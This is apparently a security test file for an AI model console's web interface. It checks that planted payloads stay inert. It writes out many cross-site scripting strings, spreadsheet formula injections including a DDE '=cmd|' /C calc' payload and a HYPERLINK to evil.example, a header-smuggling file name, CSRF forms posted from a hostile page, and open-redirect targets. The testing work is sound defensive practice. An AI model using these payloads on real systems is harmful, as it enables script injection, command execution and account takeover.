import type { Conversation } from '@ai-studio/contract/console/conversations.ts';
import type { ConsoleError } from '@ai-studio/contract/console/errors.ts';
import type { Me } from '@ai-studio/contract/console/session.ts';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Person } from '../../support/browser.ts';
import { openUpstream, play, type Upstream } from '../../support/upstream.ts';
import { openSessionOf } from '../../support/administrator.ts';
import { isAllThere, moveTo, visit } from './moves.ts';
import { administrator, callConsole, type Studio, signIn, startStudio } from './studio.ts';

// What people with bad intentions put into the console: scripts in every text, pages of their own beside ours, cookies,
// links and guesses.

/** What a text would have a browser do; `ran` is there for every page, and must never be called. */
const script = (where: string) => `"><img src=x onerror="ran('${where}')"><script>ran('${where}')</script>{{name}}`;
/** The same for fields that take few characters. */
const short = (where: string) => `<img src=x onerror=ran("${where}")>`;
/** What a spreadsheet would take for a formula. */
const formula = (where: string) => `=HYPERLINK("http://evil.example/${where}","x")`;

const answerText = [
  `<script>ran('answer')</script>`,
  `<img src=x onerror="ran('answer image')">`,
  `[by link](javascript:ran('link')) [by data](data:text/html,<script>ran('data')</script>) [vb](vbscript:ran('vb'))`,
  `![a picture](data:image/svg+xml,<svg onload="ran('svg')"/>) ![another](http://evil.example/pixel.png)`,
  `<svg onload="ran('svg tag')"></svg><iframe srcdoc="<script>parent.ran('frame')</script>"></iframe>`,
  `<a href="javascript:ran('html link')">html</a> <details open ontoggle="ran('toggle')">d</details>`,
  `| a | <img src=x onerror=ran('cell')> |\n|---|---|\n| ![x](javascript:ran('x')) | <javascript:ran('auto')> |`,
  `\`\`\`html"onmouseover="ran('fence')\n</code></pre><script>ran('code')</script>\n\`\`\``,
  `[ref]\n\n[ref]: javascript:ran('reference) "><img src=x onerror=ran('title')>"`,
  '6 × 7 = 42',
].join('\n\n');

let upstream: Upstream;
let studio: Studio;
let admin: Person;
/** A site of somebody else: another port of the same machine, for which browsers send cookies as for one site. */
let evil: Server;
let evilUrl: string;
/** What the site answers. */
let evilPage = '';
const ran: string[] = [];

/** The page of somebody whose browser has no policy that would stop a script: the texts alone must not run. */
async function watched(person: Person): Promise<Person> {
  await person.context.exposeBinding('ran', (_source, where: string) => void ran.push(where));
  return person;
}

beforeAll(async () => {
  upstream = await openUpstream(['CORE-GOV', 'CORE-GOV-THINK']);
  upstream.plays(play({ reasoning: script('reasoning'), text: answerText }));
  studio = await startStudio({
    config: {
      engines: { fake: { addresses: [upstream.url] } },
      models: {
        'CORE-GOV': { engines: [{ engine: 'fake' }] },
        'CORE-GOV-THINK': { engines: [{ engine: 'fake' }] },
      },
    },
  });
  evil = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(evilPage);
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/`;
  admin = await watched(
    await studio.browser.person({ bypassCSP: true, userAgent: `=cmd|' /C calc'!A0 ${short('agent')}` }),
  );
  await signIn(admin, administrator.email, administrator.password);
});
afterAll(async () => {
  await studio?.close();
  await upstream?.close();
  await new Promise((resolve) => evil?.close(resolve));
});

const call = async <T>(person: Person, method: string, path: string, body?: object): Promise<T> => {
  const answer = await callConsole(person, method, path, body);
  expect(answer.status, `${method} ${path} ${JSON.stringify(answer.body)}`).toBeLessThan(300);
  return answer.body as T;
};
const reasonOf = ({ body }: { readonly body: unknown }) => (body as ConsoleError).error.reason;
const settle = async ({ page }: Person) => {
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.waitForLoadState('networkidle');
};

/** Elements that a text may have made, and attributes that run something. */
const harmful = (person: Person) =>
  person.page.evaluate<string[]>(`
    [...document.querySelectorAll('*')].flatMap((one) => [
      ...[...one.attributes].filter(({ name, value }) => /^on/.test(name) || (/^(href|src|action|formaction|xlink:href|srcdoc)$/.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value))).map(({ name }) => one.tagName + ' ' + name),
      ...(/^(IFRAME|OBJECT|EMBED|BASE)$/.test(one.tagName) ? [one.tagName] : []),
      ...(one.tagName === 'IMG' && /(^|\\/)x$|evil/.test(one.src) ? ['IMG'] : []),
      ...(one.tagName === 'SCRIPT' && /ran\\(/.test(one.textContent) ? ['SCRIPT'] : []),
    ])`);

describe('scripts in every text', () => {
  let conversation: string;
  const limits = { requests_per_minute: null, tokens_per_minute: null, tool_stream: null, expires_at: null };

  beforeAll(async () => {
    await call(admin, 'PATCH', '/me', { name: script('me').slice(0, 100) });
    await call(admin, 'PATCH', '/settings', { name: short('tenant') });
    for (const name of [script('key').slice(0, 100), formula('key'), '+1+1', '-1-1', '@SUM(1)'])
      await call(admin, 'POST', '/keys', { name, scopes: ['chat'], allowed_models: null, ...limits });
    for (const [i, name] of [script('person').slice(0, 100), formula('person')].entries())
      await call(admin, 'POST', '/users', { email: `guest${i}@example.org`, name, role: 'user' });
    const models = [{ remote_id: short('remote'), id: short('model'), kind: 'chat' }];
    await call(admin, 'POST', '/servers', { name: 'evil', base_url: upstream.url, api_key: null, models });
    ({ id: conversation } = await call<Conversation>(admin, 'POST', '/conversations', {
      model: 'CORE-GOV-THINK',
      system_prompt: script('system'),
    }));
    await call(admin, 'POST', `/conversations/${conversation}/turns`, {
      content: `${script('question')}\n\n${answerText}`,
    });
    await call(admin, 'PATCH', `/conversations/${conversation}`, { title: script('title') });
  });

  test('the watch itself works', async () => {
    await visit(admin.page, '/console/profile');
    await admin.page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran(1)">')`);
    await expect.poll(() => ran).toEqual([1]);
    ran.length = 0;
  });

  test('show as they are written on every page, and none runs', async () => {
    const shown: Record<string, RegExp> = {
      '/': /onerror/,
      '/chat': /onerror/,
      '/playground': /./,
      '/keys': /onerror="ran\('key'\)/,
      '/models': /ran\("model"\)/,
      '/users': /onerror="ran\('person'\)/,
      '/usage': /./,
      '/audit': /onerror="ran\('key'\)/,
      '/settings': /./,
      '/profile': /./,
      '/tenants': /ran\("tenant"\)/,
      [`/chat/${conversation}`]: /6 × 7 = 42/,
    };
    await admin.page.goto('/console/collections');
    for (const [path, words] of Object.entries(shown)) {
      await moveTo(admin.page, path);
      await expect.poll(() => admin.page.locator('body').innerText(), { message: path }).toMatch(words);
      await isAllThere(admin.page);
      for (const tab of await admin.page.getByRole('tab').all()) {
        await tab.click();
        await isAllThere(admin.page);
      }
      expect(await harmful(admin), path).toEqual([]);
    }
    expect(ran).toEqual([]);
  });

  test('in an answer are text, and its links and pictures lead to nothing that runs or loads', async () => {
    const { page } = admin;
    await visit(page, `/console/chat/${conversation}`);
    const answer = page.getByRole('article').filter({ hasText: '6 × 7 = 42' }).last();
    await answer.waitFor();
    await settle(admin);
    for (const thoughts of await page.getByRole('button', { name: /Thought/ }).all()) await thoughts.click();
    const links = await answer
      .getByRole('link')
      .evaluateAll((all) => all.map((one) => (one as unknown as { href: string }).href));
    for (const href of links) expect(href).toMatch(/^(https?|mailto):/);
    expect(await answer.locator('img').count()).toBe(0);
    for (const words of ['by link', 'by data', '<script>ran', 'html'])
      await answer.getByText(words).first().click({ trial: false, noWaitAfter: true });
    for (const element of await answer.locator('pre, td, details, summary').all()) await element.hover();
    expect(await harmful(admin)).toEqual([]);
    expect(ran).toEqual([]);
    expect(admin.foreign).toEqual([]);
  });

  test('in the playground are text too, in tool calls as well', async () => {
    const { page } = admin;
    upstream.plays(
      play({ text: answerText, tools: [{ name: 'ran', arguments: JSON.stringify({ city: script('argument') }) }] }),
    );
    await visit(page, '/console/playground');
    await page.getByRole('textbox', { name: 'Message' }).fill(script('said'));
    await page.keyboard.press('Enter');
    await page.getByRole('article').filter({ hasText: '6 × 7 = 42' }).waitFor();
    await settle(admin);
    expect(await harmful(admin)).toEqual([]);
    expect(ran).toEqual([]);
    upstream.plays(play({ text: answerText }));
  });

  test('in addresses run nothing either', async () => {
    const { page } = admin;
    const text = encodeURIComponent(script('address'));
    const isHarmless = async (path: string) => {
      await settle(admin);
      expect(await harmful(admin), path).toEqual([]);
    };
    for (const path of [`/link#${text}`, `/setup#${text}`, '/link#%E0%A4%A', `/${text}`]) {
      await page.goto('about:blank');
      await page.goto(`${studio.service.base}/console${path}`);
      await isHarmless(path);
    }
    // Pages of who is signed in read their address alike, whether the console was loaded for it or not.
    for (const path of [`/chat/${text}`, `/audit?text=${text}`, `/usage?group=${text}`]) {
      await moveTo(page, path);
      await isHarmless(path);
    }
    expect(ran).toEqual([]);
  });

  test('do not become formulas in what spreadsheets open', async () => {
    for (const path of ['/usage.csv?group=key', '/usage.csv?group=user', '/usage.csv?group=model', '/audit.csv']) {
      const text = await call<string>(admin, 'GET', path);
      const cells = cellsOf(text);
      expect(cells.length, path).toBeGreaterThan(10);
      for (const cell of cells) expect(/^[=+\-@\t\r\n]/.test(cell), `${path} ${cell}`).toBe(false);
    }
    const audit = cellsOf(await call<string>(admin, 'GET', '/audit.csv'));
    expect(audit).toContain(`'${formula('key')}`);
    expect(audit).toContain(`'+1+1`);
    expect(audit.some((cell) => cell.startsWith(`'=cmd|' /C calc'!A0`))).toBe(true);
  });

  test('do not break out of the names of files', async () => {
    await call(admin, 'PATCH', `/conversations/${conversation}`, {
      title: '../../evil"\r\nSet-Cookie: a=b; \u202Efdp.exe',
    });
    const response = await admin.context.request.get(`/console/api/conversations/${conversation}/export?format=md`);
    expect(response.status()).toBe(200);
    expect(response.headers()['set-cookie']).toBeUndefined();
    expect(response.headers()['content-disposition']).toMatch(
      /^attachment; filename="conversation\.md"; filename\*=UTF-8''[\w%.~-]+$/,
    );
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
  });
});

/** Fills in the sign-in that is open. */
async function signInHere({ page }: Person): Promise<void> {
  await page.locator('input[name=email]').fill(administrator.email);
  await page.locator('input[name=password]').fill(administrator.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
}

/** The cells of a CSV file (RFC 4180). */
function cellsOf(text: string): string[] {
  const cells = text.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n|$)/g);
  return [...cells].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
}

describe('pages of others', () => {
  test('can’t put the console into a frame', async () => {
    const person = await studio.browser.person();
    evilPage = `<iframe src="${studio.service.base}/console/login"></iframe>`;
    await person.page.goto(evilUrl);
    const inner = person.page.frames().find((frame) => frame !== person.page.mainFrame());
    await inner?.waitForLoadState();
    expect(await inner?.locator('#root').count()).toBe(0);
    const { headers } = await fetch(`${studio.service.base}/console/login`);
    const policy = headers.get('content-security-policy') ?? '';
    expect(headers.get('x-frame-options')).toBe('DENY');
    for (const rule of ["frame-ancestors 'none'", "default-src 'none'", "base-uri 'none'", "form-action 'self'"])
      expect(policy).toContain(rule);
    expect(policy).not.toMatch(/unsafe|\*/);
    expect(headers.get('access-control-allow-origin')).toBeNull();
    await person.close();
  });

  test('can’t send a form or a call in the name of somebody who is signed in', async () => {
    // When somebody was last there is noted by the minute.
    const people = async () => {
      const { items } = await call<{ items: readonly object[] }>(admin, 'GET', '/users');
      return items.map((one) => ({ ...one, last_seen_at: null }));
    };
    const before = await people();
    const { base } = studio.service;
    const heard: { status: number; url: string; cookie: boolean }[] = [];
    const page = await admin.context.newPage();
    page.on('response', (response) => {
      if (!response.url().startsWith(base)) return;
      void response
        .request()
        .allHeaders()
        .then(({ cookie }) =>
          heard.push({ status: response.status(), url: response.url(), cookie: cookie !== undefined }),
        );
    });
    const field = JSON.stringify({ email: 'evil@example.org', name: 'Evil', role: 'administrator', x: '' });
    const forms = [
      ['/users', 'text/plain', field],
      ['/keys', 'application/x-www-form-urlencoded', 'name'],
      ['/logout', 'text/plain', 'x'],
      ['/login', 'multipart/form-data', 'email'],
    ] as const;
    for (const [path, type, name] of forms) {
      evilPage = `<form method="post" enctype="${type}" action="${base}/console/api${path}"><input name='${name}' value="x"></form><script>document.forms[0].submit()</script>`;
      await page.goto(evilUrl);
      await page.waitForURL(`${base}/console/api${path}`);
      expect(await page.locator('body').innerText(), path).toContain('wrong_origin');
    }
    evilPage = `<script>
      const calls = [['/users', ${JSON.stringify(field)}], ['/logout', '{}'], ['/me/tenant', '{"tenant_id":"x"}']];
      Promise.allSettled(calls.flatMap(([path, body]) => ['no-cors', 'cors'].map((mode) =>
        fetch('${base}/console/api' + path, { method: 'POST', mode, credentials: 'include', body }))))
        .then((all) => { document.title = 'done ' + all.filter(({ value }) => value && value.type !== 'opaque').length; });
      </script>`;
    await page.goto(evilUrl);
    // Nothing can be read.
    await page.waitForFunction(`document.title === 'done 0'`);
    // What the browser tells of its requests comes a moment later.
    await expect.poll(() => heard.length).toBeGreaterThanOrEqual(forms.length + 3);
    expect(heard.map(({ status }) => status)).toEqual(heard.map(() => 403));
    // The browser did send the cookie, as to a page of the same site: it is the service that refused.
    expect(heard.some(({ cookie }) => cookie)).toBe(true);
    await page.close();
    expect(await people()).toEqual(before);
  });
});

describe('the session', () => {
  const cookieOf = async ({ context }: Person) =>
    (await context.cookies(`${studio.service.base}/console/api/me`)).filter(({ name }) => name === 'studio_session');

  test('is in a cookie that scripts and other pages do not get', async () => {
    const [cookie, ...others] = await cookieOf(admin);
    expect(others).toEqual([]);
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/console/api', secure: false });
    expect(cookie?.domain).toBe('127.0.0.1');
    const sent = admin.page.waitForRequest((request) => request.url().includes('/console/api/'));
    // Asks the service each time that it is opened.
    await visit(admin.page, '/console/audit');
    expect(await admin.page.evaluate<string>('document.cookie')).toBe('');
    expect(new URL((await sent).url()).search).not.toContain(cookie?.value ?? '-');
  });

  test('that somebody planted is never the one of who signs in', async () => {
    for (const planted of [await openSessionOf(studio.service, administrator.email), 'A'.repeat(43)]) {
      const victim = await studio.browser.person();
      await victim.context.addCookies([
        { name: 'studio_session', value: planted, domain: '127.0.0.1', path: '/console/api', sameSite: 'Strict' },
      ]);
      await victim.page.goto('/console/login');
      await signInHere(victim);
      await victim.page.locator('#main').waitFor();
      const [cookie] = await cookieOf(victim);
      expect(cookie?.value).toMatch(/^[\w-]{43}$/);
      expect(cookie?.value).not.toBe(planted);
      // What was planted is worth nothing any more, to whoever knows it.
      const headers = { cookie: `studio_session=${planted}` };
      expect((await fetch(`${studio.service.base}/console/api/me`, { headers })).status).toBe(401);
      await victim.close();
    }
  });
});

describe('links', () => {
  test('work once, and say so to who comes later', async () => {
    const { link } = await call<{ link: { url: string } }>(admin, 'POST', '/users', {
      email: 'once@example.org',
      name: 'Once',
      role: 'user',
    });
    const one = await studio.browser.person();
    const two = await studio.browser.person();
    for (const { page } of [one, two]) {
      await page.goto(link.url);
      await page.getByLabel('Your name').fill('Once Only');
      await page.locator('input[name=password]').fill(administrator.password);
      // The secret does not stay in the address, nor in what another page would be told.
      expect(page.url()).toBe(`${studio.service.base}/console/link`);
    }
    await one.page.getByRole('button', { name: 'Join' }).click();
    await one.page.locator('#main').waitFor();
    await two.page.getByRole('button', { name: 'Join' }).click();
    const gone = 'The link has expired or was used already.';
    await two.page.getByRole('alert').filter({ hasText: gone }).waitFor();
    await two.page.goto('about:blank');
    await two.page.goto(link.url);
    await two.page.getByText(gone).waitFor();
    expect(await two.context.cookies()).toEqual([]);
    expect((await callConsole(two, 'GET', '/me')).status).toBe(401);
    const later = await callConsole(two, 'POST', '/links/use', {
      token: link.url.split('#')[1],
      name: 'Again',
      password: 'another long phrase',
    });
    expect([later.status, reasonOf(later)]).toEqual([404, 'link_invalid']);
    expect((await call<Me>(one, 'GET', '/me')).user.name).toBe('Once Only');
    await Promise.all([one.close(), two.close()]);
  });

  test('to the sign-in lead to no other place afterwards', async () => {
    const next = [
      '//evil.example/',
      '/\\evil.example',
      'https://evil.example/',
      `javascript:ran('next')`,
      '/../../docs',
      '/../console/api/audit.csv',
    ];
    const person = await watched(await studio.browser.person({ bypassCSP: true }));
    for (const one of next) {
      await visit(person.page, `/console/login?next=${encodeURIComponent(one)}`);
      await signInHere(person);
      await person.page.locator('#main').waitFor();
      const { origin, pathname } = new URL(person.page.url());
      expect(origin, one).toBe(studio.service.base);
      expect(pathname, one).toMatch(/^\/console(\/|$)/);
    }
    await visit(person.page, '/console/login?next=%2Fkeys%3Fx%3D1');
    await signInHere(person);
    await person.page.getByRole('heading', { name: 'API key management' }).waitFor();
    expect(person.foreign).toEqual([]);
    expect(ran).toEqual([]);
    await person.close();
  });
});

// The last, as it counts against the address that all of these come from.
test('a flood of guesses is stopped, and the page says why', async () => {
  const person = await studio.browser.person();
  await person.page.goto('/console/login');
  const guess = (password: string) => callConsole(person, 'POST', '/login', { email: administrator.email, password });
  const answers = await Promise.all(Array.from({ length: 14 }, (_, i) => guess(`guess number ${i}`)));
  expect(answers.filter(({ status }) => status === 401)).toHaveLength(10);
  expect(answers.filter(({ status }) => status === 429)).toHaveLength(4);
  await person.page.locator('input[name=email]').fill(administrator.email);
  await person.page.locator('input[name=password]').fill(administrator.password);
  await person.page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await person.page
    .getByRole('alert')
    .filter({ hasText: /^Too many attempts\. Please try again in 1[45] mins? \d+ secs?\.$/ })
    .waitFor();
  expect(await person.context.cookies()).toEqual([]);
  // Who is signed in goes on working.
  expect((await callConsole(admin, 'GET', '/me')).status).toBe(200);
  await person.close();
});
